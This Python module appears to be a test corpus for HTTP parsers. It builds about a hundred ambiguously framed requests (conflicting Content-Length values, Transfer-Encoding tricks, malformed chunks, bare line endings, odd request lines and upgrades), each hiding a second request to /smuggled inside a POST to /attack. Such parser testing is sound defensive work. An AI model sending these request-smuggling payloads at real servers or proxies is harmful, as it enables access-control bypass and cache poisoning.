"""Requests whose end, host or protocol can be read in two ways.

Each is a request for ``/attack`` with another, for ``/smuggled``, in its body. A server refuses it or takes it as one
request.
"""

from __future__ import annotations

SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n"
_N = len(SMUGGLED)
_HEX = b"%x" % _N
_CHUNKED = b"Transfer-Encoding: chunked\r\n"
_CHUNK = _HEX + b"\r\n" + SMUGGLED + b"\r\n"
_END = b"0\r\n\r\n"


def _request(headers: bytes, body: bytes = SMUGGLED, *, line: bytes = b"POST /attack HTTP/1.1\r\nHost: x\r\n") -> bytes:
    return line + headers + b"\r\n" + body


def _lengths(*values: bytes) -> bytes:
    return _request(b"".join(b"Content-Length: %s\r\n" % value for value in values))


def _chunks(body: bytes) -> bytes:
    return _request(_CHUNKED, body)


def _line(line: bytes) -> bytes:
    return _request(b"Content-Length: %d\r\n" % _N, line=line)


def _coding(header: bytes) -> bytes:
    return _request(header + b"\r\n", _CHUNK + _END)


def _wish(headers: bytes) -> bytes:
    return _request(headers + b"Content-Length: %d\r\n" % _N)


_DIGITS = b"%d" % _N
_H2C = b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n"

FRAMINGS: dict[str, bytes] = {
    # Two lengths, or none that is a number
    "one length": _lengths(_DIGITS),
    "length twice": _lengths(_DIGITS, _DIGITS),
    "length, then none": _lengths(_DIGITS, b"0"),
    "none, then length": _lengths(b"0", _DIGITS),
    "list of one length": _lengths(_DIGITS + b", " + _DIGITS),
    "list of two lengths": _lengths(_DIGITS + b", 0"),
    "list of two lengths, none first": _lengths(b"0, " + _DIGITS),
    "length with plus": _lengths(b"+" + _DIGITS),
    "length with minus": _lengths(b"-" + _DIGITS),
    "negative length": _lengths(b"-1"),
    "empty length": _lengths(b""),
    "length in hexadecimal": _lengths(b"0x" + _HEX),
    "length with underscore": _lengths(b"3_" + _DIGITS),
    "length with exponent": _lengths(b"4e1"),
    "length with zeros": _lengths(b"0000" + _DIGITS),
    "length with a point": _lengths(_DIGITS + b".0"),
    "length beyond 64 bits": _lengths(b"%d" % (2**64 + _N)),
    "length of a hundred digits": _lengths(b"9" * 100),
    "NUL in the length": _lengths(_DIGITS + b"\0"),
    "vertical tab in the length": _lengths(b"\x0b" + _DIGITS),
    "space before the colon of the length": _request(b"Content-Length : %d\r\n" % _N),
    "tab before the colon of the length": _request(b"Content-Length\t: %d\r\n" % _N),
    "NUL in the name of the length": _request(b"Content-Length\0: %d\r\n" % _N),
    "length folded": _request(b"Content-Length:\r\n %d\r\n" % _N),
    "length folded onto another": _request(b"Content-Length: 0\r\n %d\r\n" % _N),
    "length folded onto the request": _request(b" Content-Length: %d\r\n" % _N, line=b"POST /attack HTTP/1.1\r\n"),
    # Ends of lines
    "line feeds alone": b"POST /attack HTTP/1.1\nHost: x\nContent-Length: %d\n\n" % _N + SMUGGLED,
    "one line feed alone": _request(b"X-A: b\nContent-Length: %d\r\n" % _N),
    "carriage returns alone": b"POST /attack HTTP/1.1\rHost: x\rContent-Length: %d\r\r" % _N + SMUGGLED,
    "one carriage return alone": _request(b"X-A: b\rContent-Length: 0\r\nContent-Length: %d\r\n" % _N),
    "blank lines first": b"\r\n\r\n" + _lengths(_DIGITS),
    # Both framings
    "length and chunked": _request(b"Content-Length: %d\r\n" % (len(_CHUNK) + 5) + _CHUNKED, _CHUNK + _END),
    "chunked and length": _request(_CHUNKED + b"Content-Length: 5\r\n", _END + SMUGGLED),
    "length of none and chunked": _request(b"Content-Length: 0\r\n" + _CHUNKED, _CHUNK + _END),
    # Codings
    "chunked": _coding(b"Transfer-Encoding: chunked"),
    "chunked in capitals": _coding(b"Transfer-Encoding: CHUNKED"),
    "chunked twice": _coding(b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked"),
    "list of chunked twice": _coding(b"Transfer-Encoding: chunked, chunked"),
    "gzip": _coding(b"Transfer-Encoding: gzip"),
    "gzip, then chunked": _coding(b"Transfer-Encoding: gzip, chunked"),
    "chunked, then gzip": _coding(b"Transfer-Encoding: chunked, gzip"),
    "identity and length": _request(b"Transfer-Encoding: identity\r\nContent-Length: %d\r\n" % _N),
    "unknown coding and length": _request(b"Transfer-Encoding: xchunked\r\nContent-Length: %d\r\n" % _N),
    "chunked in quotes": _coding(b'Transfer-Encoding: "chunked"'),
    "chunked with parameter": _coding(b"Transfer-Encoding: chunked;q=1"),
    "tab before chunked": _coding(b"Transfer-Encoding:\tchunked"),
    "vertical tab before chunked": _coding(b"Transfer-Encoding: \x0bchunked"),
    "NUL after chunked": _coding(b"Transfer-Encoding: chunked\0"),
    "space before the colon of the coding": _coding(b"Transfer-Encoding : chunked"),
    "NUL in the name of the coding": _coding(b"Transfer\0-Encoding: chunked"),
    "vertical tab in the name of the coding": _coding(b"Transfer-Encoding\x0b: chunked"),
    "coding folded": _coding(b"Transfer-Encoding:\r\n chunked"),
    "coding after a carriage return": _coding(b"X-A: b\rTransfer-Encoding: chunked"),
    "coding after a line feed": _coding(b"X-A: b\nTransfer-Encoding: chunked"),
    "chunked in HTTP/1.0": _request(_CHUNKED, _CHUNK + _END, line=b"POST /attack HTTP/1.0\r\nHost: x\r\n"),
    # Chunks
    "chunk extension": _chunks(_HEX + b";a=b\r\n" + SMUGGLED + b"\r\n" + _END),
    "chunk extension with line feed": _chunks(b"2;\nxx\r\n%s\r\n0\r\n\r\n" % _HEX + SMUGGLED + b"\r\n" + _END),
    "chunk extension with quoted end of line": _chunks(_HEX + b';a="\r\n"\r\n' + SMUGGLED + b"\r\n" + _END),
    "chunk extension of 40 kB": _chunks(_HEX + b";" + b"a" * 40_000 + b"\r\n" + SMUGGLED + b"\r\n" + _END),
    "chunk size with 0x": _chunks(b"0x" + _CHUNK + _END),
    "chunk size with plus": _chunks(b"+" + _CHUNK + _END),
    "chunk size with minus": _chunks(b"-" + _CHUNK + _END),
    "chunk size with underscore": _chunks(b"0_" + _CHUNK + _END),
    "space before the chunk size": _chunks(b" " + _CHUNK + _END),
    "space after the chunk size": _chunks(_HEX + b" \r\n" + SMUGGLED + b"\r\n" + _END),
    "tab after the chunk size": _chunks(_HEX + b"\t\r\n" + SMUGGLED + b"\r\n" + _END),
    "vertical tab after the chunk size": _chunks(_HEX + b"\x0b\r\n" + SMUGGLED + b"\r\n" + _END),
    "chunk size beyond 64 bits": _chunks(b"10000000000000000" + _HEX + b"\r\n" + SMUGGLED + b"\r\n" + _END),
    "chunk size of 30 digits": _chunks(b"f" * 30 + b"\r\n" + SMUGGLED + b"\r\n" + _END),
    "empty chunk size": _chunks(b"\r\n" + SMUGGLED + b"\r\n" + _END),
    "line feed after the chunk size": _chunks(_HEX + b"\n" + SMUGGLED + b"\r\n" + _END),
    "line feed after the chunk": _chunks(_HEX + b"\r\n" + SMUGGLED + b"\n" + _END),
    "nothing after the chunk": _chunks(_HEX + b"\r\n" + SMUGGLED + _END),
    "letters after the chunk": _chunks(_HEX + b"\r\n" + SMUGGLED + b"XX" + _END),
    "many zeros": _chunks(_CHUNK + b"0" * 15 + b"\r\n\r\n"),
    "extension of the last chunk": _chunks(_CHUNK + b"0;a=b\r\n\r\n"),
    "trailer": _chunks(_CHUNK + b"0\r\nX-A: b\r\n\r\n"),
    "length as a trailer": _chunks(_CHUNK + b"0\r\nContent-Length: %d\r\n\r\n" % _N),
    "trailer folded": _chunks(_CHUNK + b"0\r\nX-A: b\r\n c\r\n\r\n"),
    # The request line and the host
    "two hosts": _line(b"POST /attack HTTP/1.1\r\nHost: x\r\nHost: y\r\n"),
    "no host": _line(b"POST /attack HTTP/1.1\r\n"),
    "whole address": _line(b"POST http://x/attack HTTP/1.1\r\nHost: x\r\n"),
    "whole address of another host": _line(b"POST http://y/attack HTTP/1.1\r\nHost: x\r\n"),
    "HTTP/1.2": _line(b"POST /attack HTTP/1.2\r\nHost: x\r\n"),
    "HTTP/2.0": _line(b"POST /attack HTTP/2.0\r\nHost: x\r\n"),
    "HTTP/0.9": _line(b"POST /attack HTTP/0.9\r\nHost: x\r\n"),
    "http in small letters": _line(b"POST /attack http/1.1\r\nHost: x\r\n"),
    "two spaces": _line(b"POST  /attack  HTTP/1.1\r\nHost: x\r\n"),
    "tabs": _line(b"POST\t/attack\tHTTP/1.1\r\nHost: x\r\n"),
    "preface of HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SMUGGLED,
    "body of a GET": _line(b"GET /attack HTTP/1.1\r\nHost: x\r\n"),
    "body of a HEAD": _line(b"HEAD /attack HTTP/1.1\r\nHost: x\r\n"),
    # Wishes
    "continue": _wish(b"Expect: 100-continue\r\n"),
    "another expectation": _wish(b"Expect: 200-ok\r\n"),
    "h2c": _wish(_H2C),
    "h2c and chunked": _request(_H2C + _CHUNKED, _CHUNK + _END),
    "websocket": _wish(b"Connection: Upgrade\r\nUpgrade: websocket\r\n"),
    "unknown protocol": _wish(b"Connection: Upgrade\r\nUpgrade: foo\r\n"),
    "several protocols": _wish(b"Connection: Upgrade\r\nUpgrade: h2c, websocket, foo/2\r\n"),
    "protocol without connection": _wish(b"Upgrade: h2c\r\n"),
    "protocol and close": _wish(b"Connection: close, Upgrade\r\nUpgrade: h2c\r\n"),
    "length named as of the connection": _wish(b"Connection: Content-Length\r\n"),
}
